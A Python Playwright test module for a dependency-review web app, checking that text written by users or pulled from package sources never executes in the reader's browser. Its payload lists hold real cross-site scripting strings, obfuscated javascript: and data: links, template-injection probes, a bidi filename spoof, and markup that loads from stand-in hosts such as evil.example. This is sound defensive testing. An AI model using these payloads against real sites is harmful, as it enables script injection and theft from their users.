"""That nothing which people write runs in the browser of whoever reads it."""

from datetime import date, timedelta

import pytest
from playwright.sync_api import Page, expect

from reviews.models import (
    Dependency,
    Evaluation,
    Flag,
    Scan,
    Signal,
    Solution,
    Team,
    User,
)
from reviews.rules.signals import SignalKind, Source, SourceState
from reviews.rules.vocabulary import BY_THE_CLOCK, Cause, Kind, Scheme
from tests.browser.conftest import signed_in
from tests.conftest import NOW, Cast
from tests.evidence import checked, ended, flagged, replaced, said
from tests.pages.building import evaluated, registered, scanned

pytestmark = pytest.mark.slow

# Each of them would open a dialog or ask another host, which the watch reports.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "\"'><svg/onload=alert(4)>",
    "</title><script>alert(5)</script>",
    "<details open ontoggle=alert(6)>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(7)>",
    "<iframe srcdoc='<script>alert(8)</script>'>",
    "<img src=http://tracker.example/1.png>",
    "<form action=//evil.example><button autofocus>x",
    "<style>@import '//evil.example/x.css'</style>",
    "{{ 7*7 }} {% debug %} ${7*7} %(x)s",
]
LINKS = [
    "[a](javascript:alert(1))",
    "[b](JaVaScRiPt:alert(2))",
    "[c](&#106;avascript:alert(3))",
    "[d](data:text/html,<script>alert(4)</script>)",
    "[e](java\tscript:alert(5))",
    "![f](http://tracker.example/2.png)",
    "<javascript:alert(6)>",
    "[g]: javascript:alert(7)\n[g]",
    "[h](vbscript:x)",
]
TAME = {"http:", "https:", "mailto:"}
FLAGGED = [cause.value for cause in Cause if cause not in BY_THE_CLOCK]


def hostile_register(cast: Cast, today: date) -> list[Solution]:
    team = Team.objects.create(name=f"Team {PAYLOADS[1]}", slug="hostile")
    User.objects.filter(pk=cast.bob.pk).update(first_name=PAYLOADS[2][:150])
    cast.bob.refresh_from_db()
    solutions = []
    for number, payload in enumerate(PAYLOADS):
        solution = registered(
            f"{number} {payload}",
            on=today - timedelta(400),
            team=team,
            owner=cast.bob,
            description=payload,
            version=payload,
            identifiers=[(Scheme.NAME, f"{number} {payload}")],
        )
        for rationale in ["\n\n".join(PAYLOADS), "\n\n".join(LINKS)]:
            evaluated(
                solution,
                today - timedelta(399 if number % 2 else 170),
                summary=payload,
                rationale=rationale,
                today=today,
            )
        solutions.append(solution)
    # What a service would refuse today, an older version or a hand may have stored.
    Solution.objects.update(homepage="javascript:alert(9)", pulled_by=PAYLOADS[1])
    return solutions


# Turns the direction of what follows, and never turns it back.
BIDI = "\u202e\u2067gpj.exe"
TOLD = [*PAYLOADS, *LINKS, BIDI, "x" * 2_000, "\u05d0" * 2_000]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(2)",
    "java\tscript:alert(3)",
    "data:text/html,<script>alert(4)</script>",
    'https://evil.example/"><svg/onload=alert(5)>',
    "//evil.example/",
]


def hostile_evidence(solution: Solution) -> None:
    """Put into every field of evidence what a stranger could have written there."""
    signals = [
        said(
            solution,
            SignalKind.NOTICE_TEXT,
            text[:500],
            subject=f"{number} {text}"[:200],
            quote=text[:2_000],
            replacement=text[:200],
            fixed_in=text[:200],
            aliases=(text[:200],),
            address=ADDRESSES[number % len(ADDRESSES)],
        )
        for number, text in enumerate(TOLD)
    ]
    for source, address, text in zip(Source, ADDRESSES, TOLD, strict=False):
        checked(
            solution,
            source,
            SourceState.FAILED,
            subject=text,
            why=text,
            error=text,
            address=address,
        )
    said(solution, SignalKind.LICENCE, PAYLOADS[0], source=Source.NPM)
    said(solution, SignalKind.LICENCE, PAYLOADS[1], source=Source.PYPI)
    for cause, address, text in zip(FLAGGED, ADDRESSES, TOLD, strict=False):
        flagged(solution, *signals, cause=cause, reason=text, source_url=address)
    evaluated(solution, NOW.date(), summary="It rested on all of that.")
    replaced(signals[0], BIDI)
    ended(signals[1])


def test_nothing_that_sources_say_runs_or_breaks_the_page(
    page: Page, cast: Cast
) -> None:
    solution = registered("Django", team=cast.platform)
    hostile_evidence(solution)
    page.set_viewport_size({"width": 390, "height": 844})
    signed_in(page, "alice")

    for path in [
        "/solutions/django/",
        "/admin/reviews/signal/",
        "/admin/reviews/sourcecheck/",
        "/admin/reviews/flag/",
        *(f"/admin/reviews/signal/{row.pk}/change/" for row in Signal.objects.all()),
        *(f"/admin/reviews/flag/{row.pk}/change/" for row in Flag.objects.all()),
        f"/admin/reviews/solution/{solution.pk}/change/",
        f"/admin/reviews/evaluation/add/?solution={solution.pk}",
    ]:
        page.goto(path, wait_until="load")
        for closed in page.locator("main details").all():
            closed.evaluate("details => details.open = true")
        schemes = page.locator("main a[href]").evaluate_all(
            "links => links.map(link => link.protocol)"
        )
        assert set(schemes) <= TAME
        assert page.locator("main :is(.said, bdi) :not(bdi)").count() == 0

    page.goto("/solutions/django/")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    # What turns the direction of writing turns nothing but itself.
    turned = page.locator("bdi.said", has_text="gpj.exe").first
    assert turned.evaluate("b => getComputedStyle(b).unicodeBidi") == "isolate"


def test_nothing_that_people_write_runs(page: Page, cast: Cast, today: date) -> None:
    solutions = hostile_register(cast, today)
    shop = registered("Shop", kind=Kind.BUILT, team=cast.platform)
    for solution in solutions:
        Dependency.objects.create(
            component=shop,
            solution=solution,
            version=PAYLOADS[3],
            first_seen_on=today,
            last_seen_on=today,
        )
    scanned(today)
    problems = [{"solution": text, "message": text} for text in PAYLOADS]
    Scan.objects.filter(pk=Scan.objects.latest("pk").pk).update(
        problems=problems, finished_at=NOW
    )
    assert Evaluation.objects.count() == 2 * len(PAYLOADS)
    signed_in(page, "alice")

    for path in [
        "/?team=hostile",
        "/?list=overdue",
        f"/?team={PAYLOADS[0]}",
        "/?owner=%22%3E%3Csvg/onload=alert(1)%3E",
        "/solutions/",
        "/solutions/?search=%22%3E%3Csvg/onload=alert(1)%3E",
        "/solutions/shop/",
        "/<script>alert(1)</script>/",
        *(f"/solutions/{solution.slug}/" for solution in solutions),
    ]:
        page.goto(path, wait_until="load")
        hrefs = page.locator("main a").evaluate_all(
            "links => links.map(link => [link.protocol, link.href])"
        )
        assert [href for scheme, href in hrefs if scheme not in TAME] == []
        # The charts and the patches of colour in their legends are the pages' own.
        foreign = "main :is(script, iframe, svg:not(.chart svg), style, img)"
        assert page.locator(foreign).count() == 0

    # Shown as typed, and not silently dropped.
    page.goto(f"/solutions/{solutions[0].slug}/")
    expect(page.locator("h1")).to_have_text("0 <script>alert(1)</script>")
